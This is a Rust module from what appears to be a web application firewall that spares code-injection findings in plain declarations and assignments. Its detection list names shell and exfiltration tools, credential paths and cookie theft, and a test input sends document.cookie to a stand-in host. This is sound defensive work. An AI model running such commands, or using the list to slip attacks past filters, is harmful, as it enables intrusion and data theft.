//! Texts that begin as a part of a program: they declare something, or keep what a call yields. What goes on
//! where something else stopped, and what is evaluated as a value, has no reason to. Nothing that
//! attacks are after may stand in them.

use super::SEVERE;
use super::words::{Words, words};
use crate::waf::detect::Hit;
use crate::waf::scan::{Needles, at, find, is_space, is_word, skip_space, span, trim};
use std::sync::LazyLock;

/// Rules about what a program calls and reads.
const CALLED: &[&str] = &[
    "php-001",
    "php-002",
    "php-003",
    "java-001",
    "node-001",
    "python-001",
    "ruby-001",
    "code-002",
    "sqli-014",
    "nosqli-002",
    "xss-006",
    "xss-007",
];

/// Words that declare, take in or hand over.
static LEADING: Words = LazyLock::new(|| {
    words(
        "#include async await bool char class const def dim double export final float fn for foreach from func \
         if import int interface let local namespace package private protected public static string struct sub \
         using val var void while",
    )
});

/// What such a program does in attacks.
static GOALS: Needles<'static> = Needles::new(&[
    b"/bin/",
    b"cmd.exe",
    b"sleep",
    b"ping",
    b"nslookup",
    b"curl http:",
    b"wget",
    b"telnet",
    b"ncat",
    b"getenv",
    b"environ",
    b"/proc/",
    b"/etc/",
    b"rm -",
    b"'ls",
    b"\"ls",
    b"'cat",
    b"\"cat",
    b"alert",
    b"prompt",
    b"document.cookie",
    b"fromcharcode",
    b"base64",
    b"uname",
    b"ifconfig",
    b"groovy",
    b"glob(",
    b"'//",
    b"\"//",
    b"__",
    b"passw",
    b"socket",
    b"/tmp/",
    b"<script",
    b"'id'",
    b"\"id\"",
    b"sys.process",
    b"loadstring",
    b"${t(",
]);

/// Words of a declaration, its kind and its name: `public static String name =`.
const MAX_WORDS: usize = 5;

/// Whether the finding is of what a program calls, and the text a part of one that is after nothing.
pub(super) fn is_declared(text: &[u8], hit: &Hit) -> bool {
    CALLED.contains(&hit.rule.id)
        && begins(text)
        && SEVERE.find(text, 0).is_none()
        && GOALS.find(text, 0).is_none()
}

/// `const x`, `import x`, `if (x)`, `out = f(x)`, `Process p = f(x)`.
fn begins(text: &[u8]) -> bool {
    let text = trim(text);
    let first = text.iter().take_while(|byte| !is_space(**byte)).count();
    let next = at(text, skip_space(text, first));
    if LEADING.contains(span(text, 0, first)) {
        return matches!(
            next,
            b'(' | b'{' | b'[' | b'<' | b'"' | b'$' | b'\'' | b'_' | b'*'
        ) || next.is_ascii_alphabetic();
    }
    let line = text.split(|byte| *byte == b'\n').next().unwrap_or_default();
    let Some(sign) = find(line, b" = ", 0).or_else(|| find(line, b" := ", 0)) else {
        return false;
    };
    let is_name = |byte: &u8| is_word(*byte) || is_space(*byte) || b"$.,<>[]{}&:*".contains(byte);
    let name = span(line, 0, sign);
    // Quoted, it would be the end of a string and a comparison.
    !name.is_empty()
        && !at(name, 0).is_ascii_digit()
        && name.iter().all(is_name)
        && name.split(|byte| is_space(*byte)).count() <= MAX_WORDS
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::rules::code;

    #[test]
    fn tells_parts_of_programs_from_what_is_evaluated() {
        let is_part = |text: &str| is_declared(text.as_bytes(), &Hit::new(&code::PHP_CALL, 0, 1));
        for text in [
            "const { exec } = require('child_process');\nexec('git rev-parse head');",
            "out = subprocess.run([\"git\", \"status\"], text=true).stdout",
            "process p = new processbuilder(\"convert\", name).start();",
            "$html = curl_exec($ch);",
            "func main() { out, err := exec.command(\"git\", \"log\").output() }",
            "if (!confirm('delete?')) return;",
            "import subprocess\nsubprocess.call([\"make\"])",
        ] {
            assert!(is_part(text), "{text}");
        }
        for text in [
            "exec('git status')",
            "x=system('make')",
            "1 = system('make')",
            "' = system('make')",
            "out = os.popen('whoami').read()",
            "const x = require('child_process').exec('sleep 5')",
            "import os; os.system('cat x')",
            "var i = new image(); i.src = '//a.example/' + document.cookie",
            "class.forname('x')",
            "package.loadlib('x')",
        ] {
            assert!(!is_part(text), "{text}");
        }
    }
}
